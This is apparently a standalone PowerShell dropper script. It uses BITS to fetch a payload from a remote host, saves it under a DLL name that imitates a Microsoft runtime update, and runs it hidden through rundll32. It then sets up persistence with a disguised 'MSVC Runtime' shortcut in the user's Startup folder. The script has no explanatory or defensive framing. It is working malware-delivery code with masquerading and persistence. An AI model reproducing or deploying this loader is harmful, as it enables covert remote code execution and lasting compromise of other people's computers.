Import-Module BitsTransfer
$d = "$env:PUBLIC\Libraries"
$f = "$d\msvcr_upd.dll"
Start-BitsTransfer -Source 'http://files.cdn-update.invalid/x/msvcr_upd.dat' -Destination $f -Priority Foreground
if ((Get-Item $f).Length -gt 10kb) {
  Start-Process rundll32.exe -ArgumentList "`"$f`",DllRegisterServer" -WindowStyle Hidden
  $lnk = (New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\MSVC Runtime.lnk")
  $lnk.TargetPath = 'C:\Windows\System32\rundll32.exe'
  $lnk.Arguments = "`"$f`",DllRegisterServer"
  $lnk.WindowStyle = 7
  $lnk.Save()
}
